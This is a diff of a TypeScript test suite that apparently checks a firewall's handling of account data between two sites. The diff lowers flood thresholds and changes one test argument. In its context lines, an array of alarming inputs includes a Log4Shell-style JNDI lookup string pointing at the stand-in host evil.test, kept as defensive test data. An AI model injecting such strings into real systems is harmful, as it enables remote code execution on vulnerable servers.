@@ -21,8 +21,8 @@ const ALARMING = [
   // biome-ignore lint/suspicious/noTemplateCurlyInString: what an attack looks like
   '${jndi:ldap://evil.test/x} Zoë 🙂',
 ];
-/** At the stricter level the same with fewer: what differs are the rules. */
-const MANY = { 1: 220, 2: 60 } as const;
+/** At the stricter level the same with fewer: what differs are the rules. Above 200 of a source are held as a flood. */
+const MANY = { 1: 160, 2: 40 } as const;
 const LIMIT_MS = 60_000;
 
 /** Accounts made or changed by PHP of the site itself: what it holds of them then, by login. */
@@ -91,7 +91,7 @@ describe.skipIf(missing !== null).each([1, 2] as const)(
       expect(await people(walled, 'inward')).toEqual(await people(open, 'inward'));
       expect(Object.keys(await people(open, 'outward'))).toHaveLength(MANY[firewall]);
       expect(await people(open, 'outward')).toEqual(await people(walled, 'outward'));
-      await change(open, 'inward1');
+      await change(open, 'inward');
       await change(walled, 'outward1');
       await stage.hub.rest(LIMIT_MS);
       expect(JSON.stringify(await people(walled, 'inward1'))).toContain('Changed; ');
